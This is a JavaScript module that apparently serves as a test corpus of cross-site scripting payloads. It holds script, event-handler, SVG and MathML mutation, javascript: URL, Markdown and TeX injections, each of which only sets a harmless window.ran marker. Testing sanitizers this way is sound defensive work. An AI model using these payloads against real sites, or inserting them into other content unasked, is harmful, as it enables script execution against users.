// payloads.js - texts that run a script where a page is careless.  Each that runs sets window.ran.
//
// After the forms that OWASP's and PortSwigger's cheat sheets list: tags, attributes, addresses, SVG and MathML, mutation
// (what a parser changes on its way), Markdown and TeX.

const RUN = 'window.ran=1';
const ENCODED = '&#119;&#105;&#110;&#100;&#111;&#119;&#46;&#114;&#97;&#110;&#61;&#49;';

const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter', 'onwheel', 'onscroll', 'oncut'];
const TAGS = ['img src=x', 'svg', 'body', 'input autofocus', 'video src=x', 'audio src=x', 'details open', 'marquee', 'object data=x', 'select autofocus', 'iframe src=x', 'textarea autofocus'];

const html = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script src=data:text/javascript,${RUN}></script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`, `<<script>${RUN}//<</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img src=x onerror='${RUN}'`, `<img/src=x/onerror=${RUN}>`, `<img src=x onerror=&#${119};indow.ran=1>`, `<img """><script>${RUN}</script>">`,
  `<img src="javascript:${RUN}">`, `<img dynsrc="javascript:${RUN}">`, `<img srcset=x onerror=${RUN}>`, `<image src=x onerror=${RUN}>`, `<picture><source srcset=x onerror=${RUN}><img src=x onerror=${RUN}></picture>`,
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${RUN}>#x"></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`, `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math href="javascript:${RUN}">x</math>`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`, `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<link rel=stylesheet href="javascript:${RUN}">`, `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<base href="javascript:${RUN}//">`, `<style>@import "javascript:${RUN}";</style>`, `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`, `<div style="width:expression(${RUN})">x</div>`, `<a href="javascript:${RUN}">x</a>`, `<a href=" javascript:${RUN}">x</a>`, `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="jAvAsCrIpT:${RUN}">x</a>`, `<a href="javascript&colon;${RUN}">x</a>`, `<a href="&#x6A;avascript:${RUN}">x</a>`, `<a href="data:text/html,<script>opener.ran=1</script>">x</a>`, `<a href="vbscript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`, `<button formaction="javascript:${RUN}">x</button>`, `<isindex action="javascript:${RUN}" type=submit>`, `<table background="javascript:${RUN}"><td>x</table>`,
  `<template><script>${RUN}</script></template>`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<plaintext><script>${RUN}</script>`,
  `<a id=location href="javascript:${RUN}">x</a>`, `<form id=attributes><input name=attributes onfocus=${RUN} autofocus>`, `<dialog open onclose=${RUN}><form method=dialog><button>x`, `<p onclick=${ENCODED}>x</p>`,
];
const handlers = HANDLERS.map((handler, i) => `<${TAGS[i]} ${handler}=${RUN}>x`);
const markdown = [
  `[x](javascript:${RUN})`, `[x](JaVaScRiPt:${RUN})`, `[x](<javascript:${RUN}>)`, `[x]( javascript:${RUN})`, `[x](javascript&#58;${RUN})`, `[x](java%0ascript:${RUN})`, `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:${RUN})`, `![x](javascript:${RUN})`, `![x" onerror="${RUN}](x)`, `![x](x" onerror="${RUN})`, `[x](https://example.org/"onmouseover="${RUN})`, `[x](x 'title" onmouseover="${RUN}')`, `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`, `[a]: <javascript:${RUN}> "t"\n\n[click][a]`, `\`\`\`"onload=${RUN}>\n<img src=x onerror=${RUN}>\n\`\`\``, `\`\`\`html\n<script>${RUN}</script>\n\`\`\``, `| <img src=x onerror=${RUN}> |\n|---|\n| <svg onload=${RUN}> |`,
  `- <img src=x onerror=${RUN}>\n- [x](javascript:${RUN})`, `> <svg onload=${RUN}>`, `# <img src=x onerror=${RUN}>`, `$\\href{javascript:${RUN}}{x}$`, `$\\url{javascript:${RUN}}$`, `$\\htmlData{x=y}{\\text{<img src=x onerror=${RUN}>}}$`,
  `$$\\includegraphics[alt=x]{javascript:${RUN}}$$`, `$<img src=x onerror=${RUN}>$`, `$\\unicode{<img src=x onerror=${RUN}>}$`, `~~<img src=x onerror=${RUN}>~~`, `<br onclick=${RUN}>`, `<https://example.org/?"><img src=x onerror=${RUN}>>`,
];

export const payloads = [...html, ...handlers, ...markdown];
